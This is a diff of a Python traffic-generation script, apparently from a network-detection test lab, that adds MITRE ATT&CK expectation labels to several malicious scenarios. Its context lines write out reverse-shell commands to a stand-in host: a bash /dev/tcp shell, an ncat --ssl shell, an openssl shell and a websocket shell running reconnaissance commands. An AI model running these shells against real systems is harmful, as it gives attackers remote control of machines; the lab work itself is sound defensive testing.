@@ -26,13 +26,13 @@ def bash_8080(net: Network) -> None:
     shell_session(net, f"nc -lnv -s {at.BAD} -p 8080", f"bash -c 'bash -i >& /dev/tcp/{at.BAD}/8080 0>&1'")
 
 
-@malicious("revshell-ncat-ssl-443", "T1573.002 T1059.004", tools="ncat", talks=f"c1>{at.BAD}:443/tcp", **SHELL)
+@malicious("revshell-ncat-ssl-443", "T1573.002 T1059.004", tools="ncat", talks=f"c1>{at.BAD}:443/tcp", expects=["T1573"], **SHELL)
 def ncat_ssl_443(net: Network) -> None:
     """ncat --ssl reverse shell on 443 (ncat's throw-away certificate)"""
     shell_session(net, f"ncat --ssl -lnv {at.BAD} 443", f"ncat --ssl {at.BAD} 443 -e /bin/sh")
 
 
-@malicious("revshell-openssl-8443", "T1573.002 T1059.004", tools="openssl", talks=f"c1>{at.BAD}:8443/tcp", **SHELL)
+@malicious("revshell-openssl-8443", "T1573.002 T1059.004", tools="openssl", talks=f"c1>{at.BAD}:8443/tcp", expects=["T1573"], **SHELL)
 def openssl_8443(net: Network) -> None:
     """openssl s_client reverse shell against a lazily made certificate"""
     lazy = net.material.self_signed("/C=US/ST=Some-State/O=Internet Widgits Pty Ltd")
@@ -70,7 +70,7 @@ def ws_shell(net: Network) -> None:
     net.c1.run(f"python3 {TOOLS}/websocket_client.py ws://{at.BAD_NAME}/chat --ping 10 --pause 3 12 id hostname 'ls -la /usr/share | head -20' 'cat /etc/os-release' 'ls /etc | head -40'")
 
 
-@malicious("wss-shell", "T1071.001 T1573.002", tools="websocketd", talks=f"c1>{at.BAD}:443/tcp", seconds=60, expects=["T1573.002"])
+@malicious("wss-shell", "T1071.001 T1573.002", tools="websocketd", talks=f"c1>{at.BAD}:443/tcp", seconds=60, expects=["T1573"])
 def wss_shell(net: Network) -> None:
     """the same in TLS on 443"""
     pair = bad_certificate(net)
